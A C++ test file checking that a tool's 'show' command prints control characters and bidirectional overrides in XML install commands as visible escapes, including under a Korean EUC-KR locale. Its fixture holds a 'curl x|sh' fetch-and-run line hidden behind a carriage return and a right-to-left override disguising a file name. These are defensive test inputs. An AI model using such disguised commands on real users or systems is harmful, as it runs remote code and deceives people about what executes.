// korvane show prints texts so that a terminal cannot be made to hide part of them: control
// characters and bidirectional overrides appear as escapes in the tables, walked by whole
// characters of the system code page.
#include <gtest/gtest.h>

#include <cstdlib>
#include <string>

#include "run_command.h"
#include "scratch_directory.h"

namespace {

using korvane::testing::CommandResult;
using korvane::testing::RunKorvane;
using korvane::testing::ScratchDirectory;

// One command per line of the table, each holding characters that a terminal acts on.
const char* const kDisguisedCommands = R"(<SETUP><PREEXECUTE>
  <COMMAND>curl x|sh ;#&#13;notepad.exe readme.txt</COMMAND>
  <COMMAND>a&#9;b&#10;c&#127;d</COMMAND>
  <COMMAND>x&#x85;y&#x9F;z&#xA0;</COMMAND>
  <COMMAND>&#x202A;&#x202E;exe.txt&#x202C;&#x2066;&#x2069;&#x2029;&#x202F;&#x2070;</COMMAND>
  <COMMAND>한글 ok</COMMAND>
</PREEXECUTE></SETUP>
)";

TEST(ShowEscapes, ControlsAndOverridesAppearAsEscapesUnderUtf8) {
    ScratchDirectory directory;
    directory.Write("disguised.xml", kDisguisedCommands);
    CommandResult shown = RunKorvane({"show", "disguised.xml"});
    ASSERT_EQ(shown.status, 0) << shown.err;
    EXPECT_NE(shown.out.find("Commands before installing (5)\n"
                             "  COMMAND\n"
                             "  curl x|sh ;#\\x0Dnotepad.exe readme.txt\n"
                             "  a\\x09b\\x0Ac\\x7Fd\n"
                             "  x\\u{0085}y\\u{009F}z\u00A0\n"
                             "  \\u{202A}\\u{202E}exe.txt\\u{202C}\\u{2066}\\u{2069}"
                             "\u2029\u202F\u2070\n"
                             "  한글 ok\n"),
              std::string::npos)
        << shown.out;

    // JSON escapes what it must by itself, and nothing twice.
    CommandResult json = RunKorvane({"show", "--json", "disguised.xml"});
    EXPECT_NE(json.out.find(R"("curl x|sh ;#\rnotepad.exe readme.txt")"), std::string::npos)
        << json.out;
    EXPECT_NE(json.out.find(R"("a\tb\nc)"
                            "\x7F"
                            R"(d")"),
              std::string::npos);
}

// Builds a EUC-KR locale in `directory`; false when this system lacks what that takes.
bool MakeKoreanLocale(const ScratchDirectory& directory) {
    const std::string command = "localedef -i ko_KR -f EUC-KR " + directory.path().string() +
                                "/ko_KR.EUC-KR >/dev/null 2>&1";
    return std::system(command.c_str()) == 0;
}

TEST(ShowEscapes, DoubleByteCharactersAreNeverTakenForControls) {
    ScratchDirectory directory;
    if (!MakeKoreanLocale(directory)) {
        GTEST_SKIP() << "localedef or the ko_KR locale source is missing";
    }
    // 똠 is 8C 63 and 갂 is 81 41 in code page 949: lead bytes in the C1 range.
    directory.Write("korean.xml",
                    "<SETUP><PREEXECUTE><COMMAND>똠&#13;갂&#x202E;</COMMAND></PREEXECUTE></SETUP>");
    // glibc keeps the locale path that LOCPATH gives for the life of the process, which the
    // leak checker of an instrumented build would report.
    const std::string suppressions = directory.Write("leaks.supp", "leak:__argz_add_sep\n");
    const char* leakOptions = std::getenv("LSAN_OPTIONS");
    CommandResult shown =
        RunKorvane({"show", "korean.xml"},
                   {{{"LOCPATH", directory.path().string()},
                     {"LC_ALL", "ko_KR.EUC-KR"},
                     {"LSAN_OPTIONS", std::string(leakOptions != nullptr ? leakOptions : "") +
                                          ":suppressions=" + suppressions}},
                    ""});
    ASSERT_EQ(shown.status, 0) << shown.err;
    // U+202E is not in the code page: the load read it as '?' and kept the file's text, which
    // the table shows as an escape.
    EXPECT_NE(shown.out.find("  \x8C\x63\\x0D\x81\x41\\u{202E}\n"), std::string::npos)
        << shown.out;
}

}  // namespace
